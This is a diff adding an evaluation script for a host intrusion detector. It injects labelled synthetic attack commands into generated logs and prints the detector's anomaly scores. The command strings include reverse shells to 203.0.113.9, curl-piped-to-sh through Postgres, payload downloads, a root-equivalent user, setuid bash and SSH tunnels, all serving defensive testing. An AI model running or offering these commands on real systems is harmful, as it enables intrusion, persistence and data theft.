@@ -1,0 +1,118 @@
+// node scripts/person-mimicry.js ROOT [www [login]] (review7, docs/hardening.md): the scenario set
+// (seed 11, 21 days) plus one story per ATT&CK technique, each a single labelled exec of a
+// person account in a fresh office SSH session (ops on edge-web, omar on pg-main), or with
+// `www` of www-data under php-fpm; `login` adds one login record of www-data on day 3 to the
+// training logs. ROOT is a built worktree (compare builds of two commits). Prints each row.
+const root = require('path').resolve(process.argv[2]);
+const path = require('path'),
+  fs = require('fs');
+const { resolveConfig } = require(root + '/dist/conf/config');
+const { runEval } = require(root + '/dist/scorer/eval/run');
+const { generateScenarios } = require(root + '/dist/scorer/eval/scenarios/generate');
+const { ATTACKS } = require(root + '/dist/scorer/eval/scenarios/stories');
+const WWW = process.argv[3] === 'www';
+const T = WWW
+  ? [
+      ['edge-web', 'www-data', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
+      ['edge-web', 'www-data', '/usr/bin/find', 'find / -perm -4000 -type f'],
+      ['edge-web', 'www-data', '/usr/bin/openssl', 'openssl enc -aes-256-cbc -in w.tgz -out w.enc -k pw'],
+      ['edge-web', 'www-data', '/usr/bin/grep', 'grep -r password /var/www'],
+      ['edge-web', 'www-data', '/usr/bin/convert', 'convert upload.png -write /var/www/shop/x.php thumb.png'],
+      ['edge-web', 'www-data', '/usr/bin/id', 'id'],
+      ['edge-web', 'www-data', '/usr/bin/uname', 'uname -a'],
+    ]
+  : [
+      // ops on edge-web: runs tail grep systemctl curl df free sudo(systemctl)
+      ['edge-web', 'ops', '/usr/bin/curl', 'curl -o /home/ops/x http://203.0.113.9/x'],
+      ['edge-web', 'ops', '/usr/bin/curl', 'curl -sI https://203.0.113.9/health'],
+      ['edge-web', 'ops', '/usr/bin/systemctl', 'systemctl enable backdoor.service'],
+      ['edge-web', 'ops', '/usr/bin/systemctl', 'systemctl start backdoor'],
+      ['edge-web', 'ops', '/usr/bin/grep', 'grep -r password /var/www'],
+      ['edge-web', 'ops', '/usr/bin/tail', 'tail -n 200 /var/log/auth.log'],
+      ['edge-web', 'ops', '/usr/bin/sudo', 'sudo useradd -o -u 0 -m svc', { euid: '0' }],
+      ['edge-web', 'ops', '/usr/bin/sudo', 'sudo chmod u+s /bin/bash', { euid: '0' }],
+      ['edge-web', 'ops', '/usr/bin/find', 'find / -perm -4000 -type f'],
+      ['edge-web', 'ops', '/usr/bin/tar', 'tar czf /home/ops/w.tgz /var/www'],
+      ['edge-web', 'ops', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
+      ['edge-web', 'ops', '/usr/bin/ncat', 'ncat --exec /bin/sh 203.0.113.9 4444'],
+      ['edge-web', 'ops', '/usr/bin/wget', 'wget -O /home/ops/x http://203.0.113.9/x'],
+      ['edge-web', 'ops', '/usr/bin/ssh', 'ssh -R 9000:localhost:22 u@203.0.113.9'],
+      ['edge-web', 'ops', '/usr/bin/ssh', 'ssh -D 1080 -N u@203.0.113.9'],
+      ['edge-web', 'ops', '/usr/bin/crontab', 'crontab -l'],
+      ['edge-web', 'ops', '/usr/bin/crontab', 'crontab /home/ops/job'],
+      ['edge-web', 'ops', '/usr/bin/chmod', 'chmod u+s /home/ops/b'],
+      ['edge-web', 'ops', '/usr/bin/base64', 'base64 -d /home/ops/p.b64'],
+      ['edge-web', 'ops', '/usr/bin/dd', 'dd if=/dev/sda of=/home/ops/d bs=1M'],
+      ['edge-web', 'ops', '/usr/bin/openssl', 'openssl enc -aes-256-cbc -in w.tgz -out w.enc -k pw'],
+      ['edge-web', 'ops', '/usr/bin/awk', 'awk BEGIN{system("/bin/sh")}'],
+      ['edge-web', 'ops', '/usr/bin/perl', "perl -e exec '/bin/sh'"],
+      ['edge-web', 'ops', '/usr/bin/python3', "python3 -c import pty;pty.spawn('/bin/sh')"],
+      ['edge-web', 'ops', '/usr/bin/busybox', 'busybox nc 203.0.113.9 4444 -e sh'],
+      // omar on pg-main (weekly): psql df journalctl vacuumdb du
+      ['pg-main', 'omar', '/usr/bin/psql', "psql -U postgres -c COPY t FROM PROGRAM 'curl http://203.0.113.9/x|sh'"],
+      ['pg-main', 'omar', '/usr/bin/du', 'du -sh /home/*'],
+      ['pg-main', 'omar', '/usr/bin/find', 'find / -perm -4000 -type f'],
+      ['pg-main', 'omar', '/usr/bin/tar', 'tar czf /home/omar/db.tgz /var/lib/postgresql'],
+      ['pg-main', 'omar', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
+    ];
+T.forEach(([host, who, exe, cmd, o], i) =>
+  ATTACKS.push({
+    id: `r7-${i}`,
+    title: cmd,
+    host,
+    day: i % 2,
+    play(h, t) {
+      if (WWW) {
+        const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
+        h.exec(t + 60, who, exe, cmd, fpm, { story: this.id, cwd: '/var/www/shop' });
+        return;
+      }
+      h.login(t, who, host === 'pg-main' ? '10.40.8.37' : '10.40.8.44');
+      const sh = h.session(t, who);
+      h.exec(t + 60, who, exe, cmd, sh, { story: this.id, ...(o || {}) });
+    },
+  }),
+);
+(async () => {
+  const out = '/tmp/r7/pool-' + path.basename(root) + (process.argv[3] || '');
+  const inject = process.argv[4] === 'login';
+  const set = generateScenarios({ seed: 11, days: 21, start: 1767225600 });
+  fs.mkdirSync(out, { recursive: true });
+  if (inject) {
+    // one login record of www-data on day 3 (as a pty opened through a setgid utmp helper would leave)
+    const t = 1767225600 + 3 * 86400 + 15 * 3600;
+    const at = set.train.findIndex((l) => JSON.parse(l).unixTime > t);
+    set.train.splice(
+      at,
+      0,
+      JSON.stringify({
+        name: 'pack_hids_last',
+        hostIdentifier: 'edge-web',
+        calendarTime: 'x',
+        unixTime: t,
+        epoch: 0,
+        counter: 0,
+        numerics: false,
+        decorations: { host_uuid: 'uuid-edge-web' },
+        columns: { username: 'www-data', tty: 'pts/3', pid: '31337', type: '7', type_name: 'user-process', host: '10.40.8.44', time: String(t) },
+        action: 'added',
+      }),
+    );
+  }
+  fs.writeFileSync(path.join(out, 'train.log'), set.train.join('\n') + '\n');
+  fs.writeFileSync(path.join(out, 'test.log'), set.test.join('\n') + '\n');
+  const config = resolveConfig({ models: { rarity: true, ocsvm: true, lstm: false, ngram: false } }, '--models', {});
+  const scored = [];
+  await runEval({ train: path.join(out, 'train.log'), test: path.join(out, 'test.log'), config, onRow: (s) => scored.push(s) });
+  set.testStory.forEach((id, i) => {
+    if (!id.startsWith('r7-')) return;
+    const s = scored[i];
+    const [, who, , cmd] = T[Number(id.slice(3))];
+    console.log(
+      `${who.padEnd(5)} ${cmd.slice(0, 48).padEnd(48)} ${s.score === null ? 'NULL ' : s.score.toFixed(3)} ${s.model.padEnd(12)} ${s.reasons.slice(0, 150)}`,
+    );
+  });
+})().catch((e) => {
+  console.error(e);
+  process.exit(1);
+});
